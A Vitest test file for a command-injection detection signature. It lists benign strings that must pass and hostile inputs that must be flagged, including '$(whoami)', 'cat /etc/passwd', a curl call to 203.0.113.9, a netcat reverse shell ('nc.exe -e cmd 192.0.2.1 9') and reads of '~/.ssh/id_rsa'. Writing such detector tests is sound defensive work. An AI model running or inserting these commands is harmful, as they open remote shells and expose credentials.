import { expect, test } from 'vitest';
import { commandInjection } from '../../../src/attacks/signatures/command-injection.ts';
import { foundIn, jsonBody } from '../found-in.ts';

test.each([
  '0 3 * * * /usr/bin/php /srv/app/cron.php',
  '@daily restic backup',
  '1 2 3 4 5 cats',
  '<?php',
  'let r=a.match(e,1e9).map(b);if(x)y()',
  '; xyzd /flag',
  'Berlin;see /flag',
  'Berlin;see index.php',
  '; see notes.txt',
  '| path /flag |',
  'node -e \'require("assert")(!require("./package.json").private)\'',
  "python -c 'import numpy; numpy.test()'",
  '`ftp` or `file`, which nobody names',
  'If ``x`` is installed, ``y`` returns a ``Z`` object',
  'qemu --image="$(pwd)/server.img" --data=$(pwd)/user-data',
  '.\\gradlew.bat build',
  'Try `sudo chown -R $(whoami) ~/menus` and then serve the guests again',
  'Use `kill -9 $(lsof -t -i:3000)` for that',
  '| `reset` | Takes everything off the menu |',
  'Registered as a `@Bean`. **Adapter (guests):** Orders are told to the `Kitchen` (at once) or the bar (see `a.md`).',
  'CMD [ "/bin/sh", "-c", "while true; do sleep 9; done" ]',
  '# `python -m venv menu`',
  '`locale`: the language of the menu',
  '| `locale` | string\\|boolean | `""` | Language of the menu; `true` for that of the guest |',
  './build.sh (on Unix)\n.\\build.bat (on Windows)',
])('what scripts, schedules and sources hold is no command: %s', (text) => {
  expect(foundIn(commandInjection, jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' }))).toEqual([]);
});

test.each([
  '# `sleep 5`',
  '# `cat /etc/passwd`',
  '# $(id)',
  '`id`: 5',
  '|`id`|',
  '| `id` |',
  '| `id` | x |',
  "'`' `whoami`",
  'x`a`id`whoami`',
  '| `curl 192.0.2.1` | a | b |',
  'cmd [ "/c" whoami',
  'Try `$(whoami)` and then serve',
  'Try `;id;$(whoami)` and then serve',
  'Try `kill $(cat /etc/passwd)` and then serve',
  'Try `kill $(curl http://203.0.113.9/a)` and then serve',
  'Try sudo chown $(whoami) x and then serve the guests',
  'a$(pwd)',
  '$(pwd)',
  '$(pwd -P)/a',
  '$(id)/a',
  ';cat $(pwd)/flag',
  '$(cat $(pwd)/flag)',
])('a command that is shown in no such way is one all the same: %s', (text) => {
  const body = jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' });
  expect(foundIn(commandInjection, body)).not.toEqual([]);
});

test.each([
  '.\\cmd.exe /c dir',
  '..\\..\\windows\\system32\\cmd.exe /c dir',
  'a;.\\x.bat',
  '.\\nc.exe -e cmd 192.0.2.1 9',
])('a program of Windows by the way to it is one: %s', (text) => {
  expect(foundIn(commandInjection, jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' }))).not.toEqual(
    [],
  );
});

test.each([
  'cat ~/.ssh/id_rsa',
  'cat ~/.ssh/id_rsa.pub ~/.ssh/id_rsa',
  'chmod 777 ~/.ssh/id_rsa',
  'cat /root/.ssh/id_rsa.pub',
  ';ssh-add ~/.ssh/id_rsa',
  'chmod 600 ~/.ssh/a; cat /etc/passwd',
])("a key that is read, opened to others or somebody else's is one of a command: %s", (text) => {
  expect(foundIn(commandInjection, jsonBody({ comment: text, lines: 3, author: 'ann', channel: 'dev' }))).not.toEqual(
    [],
  );
});
